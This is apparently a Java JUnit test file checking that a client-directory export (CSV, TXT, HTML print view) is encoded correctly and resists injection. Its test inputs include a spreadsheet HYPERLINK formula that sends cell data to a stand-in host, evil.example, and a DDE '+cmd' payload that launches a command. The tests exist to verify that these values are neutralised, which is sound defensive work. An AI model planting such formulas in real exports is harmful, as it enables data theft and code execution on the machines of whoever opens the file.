package com.mandatewatch.api;

import com.mandatewatch.report.Csv;
import com.mandatewatch.support.TestApp;
import io.vertx.core.json.JsonObject;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;

import static com.mandatewatch.support.TestApp.contractBody;
import static org.junit.jupiter.api.Assertions.*;

/** The client export (CSV, TXT) and print view (issue 5 item 5; CASES C50, C51, C53). */
class ClientExportTest {
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"详情\")";
    static final String CMD = "+cmd|' /C calc'!A0";
    static final String SUM = "@SUM(1,1)";
    static final String FULL_WIDTH = "＝1+1";
    static TestApp app;
    static String cm1;

    @BeforeAll
    static void start() {
        app = TestApp.start(Map.of());
        app.setupClient("C001", "A001", "K-C001", "cm1", "cm1@example.test");
        app.setupClient("C002", "A002", "K-C002", "cm2", "cm2@example.test");
        client("C010", "某某人寿-企业年金", "cm1");
        client("C-DATE", "2025-01", "cm2");
        client("C011", HYPERLINK, "cm1");
        client("C012", CMD, "cm2");
        client("C013", SUM, "cm2");
        client("C014", FULL_WIDTH, "cm2");
        client("000001", "<b>平安</b> & \"银行\"", "cm2");
        // 3.5亿 for C010, so that the print view shows 亿元
        created(app.post("/api/contracts", contractBody("K-C010", "C010", "622848001234567890").put("amount", "350000000.00")));
        cm1 = app.login("cm1", "Cm-Pass-2026!x");
    }

    static void client(String code, String name, String manager) {
        created(app.post("/api/clients", new JsonObject().put("code", code).put("name", name).put("nature", "OTHER").put("manager", manager)));
    }

    @AfterAll
    static void stop() {
        app.close();
    }

    static void created(TestApp.Response r) {
        assertEquals(201, r.status(), r.body());
    }

    static Map<String, List<String>> byCode(List<List<String>> rows) {
        Map<String, List<String>> out = new HashMap<>();
        rows.subList(1, rows.size()).forEach(r -> out.put(r.get(0), r));
        return out;
    }

    @Test
    @DisplayName("C50 CSV: EF BB BF, text/csv; charset=utf-8, Chinese headers and names read back (the manager as 张伟（cm1）); bom=false for programs")
    void csvEncoding() throws Exception {
        HttpResponse<byte[]> r = app.bytes("/api/clients/export?format=csv", app.token);
        assertEquals(200, r.statusCode());
        assertEquals("text/csv; charset=utf-8", r.headers().firstValue("Content-Type").orElse(""));
        assertArrayEquals(Csv.BOM, Arrays.copyOf(r.body(), 3));
        List<List<String>> rows = Csv.parse(new String(r.body(), StandardCharsets.UTF_8));
        assertEquals(ClientExportRoutes.HEADERS, rows.get(0));
        List<String> c010 = byCode(rows).get("C010");
        assertEquals("某某人寿-企业年金", c010.get(1));
        assertEquals("其他", c010.get(2));
        assertEquals("经理cm1（cm1）", c010.get(3), "the manager by the name people know, with the user name");
        assertEquals("350000000.00", c010.get(6), "the amount is a plain number");
        assertEquals(10, rows.size(), "header and 9 clients");

        HttpResponse<byte[]> plain = app.bytes("/api/clients/export?format=csv&bom=false", app.token);
        assertEquals("客户代码", new String(plain.body(), StandardCharsets.UTF_8).substring(0, 4));
    }

    @Test
    @DisplayName("C51 CSV: names that a spreadsheet would run are neutralised with a leading ', RFC 4180 quoting holds")
    void csvFormulaSafe() throws Exception {
        String text = new String(app.bytes("/api/clients/export", app.token).body(), StandardCharsets.UTF_8);
        Map<String, List<String>> rows = byCode(Csv.parse(text));
        assertEquals("'" + HYPERLINK, rows.get("C011").get(1));
        assertEquals("'" + CMD, rows.get("C012").get(1));
        assertEquals("'" + SUM, rows.get("C013").get(1));
        assertEquals("'" + FULL_WIDTH, rows.get("C014").get(1));
        assertTrue(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"详情\"\")\""), "quoted with doubled quotes");
        for (List<String> row : rows.values()) assertEquals(11, row.size(), row.toString());
        // a leading TAB never reaches an export: the API refuses control characters in names
        TestApp.Response tab = app.post("/api/clients", new JsonObject().put("code", "C099").put("name", "\t=1+1").put("nature", "OTHER"));
        assertEquals(400, tab.status(), tab.body());
        assertEquals("name", tab.json().getJsonArray("details").getJsonObject(0).getString("field"));
    }

    @Test
    @DisplayName("C53 CSV: the numeric client code 000001 and a name like 2025-01 are written as =\"…\" and re-import intact")
    void csvCodes() throws Exception {
        String text = new String(app.bytes("/api/clients/export?format=csv", app.token).body(), StandardCharsets.UTF_8);
        assertTrue(text.contains("\r\n\"=\"\"000001\"\"\","), "=\"000001\", RFC 4180-quoted: " + text);
        assertNotNull(byCode(Csv.parse(text)).get("000001"));
        // a name Excel would read as a number or a date stays text too, and reads back as written
        assertTrue(text.contains("\"=\"\"2025-01\"\"\""), "the name 2025-01 as text: " + text);
        assertEquals("2025-01", byCode(Csv.parse(text)).get("C-DATE").get(1));
    }

    @Test
    @DisplayName("export uses the query's filters, sort and visibility; bad parameters named in one 400")
    void exportFilters() throws Exception {
        String own = new String(app.bytes("/api/clients/export?format=csv&sort=-amount", cm1).body(), StandardCharsets.UTF_8);
        List<List<String>> rows = Csv.parse(own);
        assertEquals(List.of("C010", "C001", "C011"), rows.subList(1, rows.size()).stream().map(r -> r.get(0)).toList());
        TestApp.Response bad = app.get("/api/clients/export?format=xlsx&bom=maybe&nature=X");
        assertEquals(400, bad.status(), bad.body());
        Set<String> fields = new TreeSet<>();
        bad.json().getJsonArray("details").forEach(o -> fields.add(((JsonObject) o).getString("field")));
        assertEquals(Set.of("format", "bom", "nature"), fields);
    }

    @Test
    @DisplayName("TXT: an aligned UTF-8 table, Chinese characters counted as two columns")
    void txt() throws Exception {
        HttpResponse<byte[]> r = app.bytes("/api/clients/export?format=txt&manager=cm1", app.token);
        assertEquals(200, r.statusCode());
        assertEquals("text/plain; charset=utf-8", r.headers().firstValue("Content-Type").orElse(""));
        String[] lines = new String(r.body(), StandardCharsets.UTF_8).split("\n");
        assertTrue(lines[0].startsWith("客户代码"), lines[0]);
        assertTrue(lines[1].matches("-+"), lines[1]);
        assertEquals(5, lines.length, "header, rule, C001, C010, C011");
        // the 客户性质 column starts at the same display column on every row
        int col = com.mandatewatch.text.Table.displayWidth(lines[0].substring(0, lines[0].indexOf("客户性质")));
        for (int i = 2; i < lines.length; i++) {
            String l = lines[i];
            int at = l.indexOf(i == 2 ? "民营企业" : "其他");
            assertEquals(col, com.mandatewatch.text.Table.displayWidth(l.substring(0, at)), l);
        }
        assertTrue(lines[3].contains("350000000.00"));
    }

    @Test
    @DisplayName("print view: escaped HTML in Chinese, amounts in 万元/亿元, print CSS")
    void print() {
        TestApp.Response r = app.get("/api/clients/print");
        assertEquals(200, r.status(), r.body());
        assertEquals("text/html; charset=utf-8", r.raw().headers().firstValue("Content-Type").orElse(""));
        String html = r.body();
        assertTrue(html.contains("@media print"));
        assertTrue(html.contains("客户名录"));
        assertTrue(html.contains("3.50亿元"), "3.5亿");
        assertTrue(html.contains("1.00亿元"), "exactly 1亿 is shown in 亿元");
        assertTrue(html.contains("0.00万元"), "below 1亿 in 万元");
        assertEquals("9,999.99万元", com.mandatewatch.text.Money.wanYi(new java.math.BigDecimal("99999900.00")));
        assertFalse(html.contains("<b>平安</b>"), "names are escaped");
        assertTrue(html.contains("&lt;b&gt;平安&lt;/b&gt; &amp; &quot;银行&quot;"));
        assertEquals(400, app.get("/api/clients/print?sort=x").status());
        assertFalse(app.call("GET", "/api/clients/print", null, cm1).body().contains("C012"), "a client manager prints own clients only");
    }
}
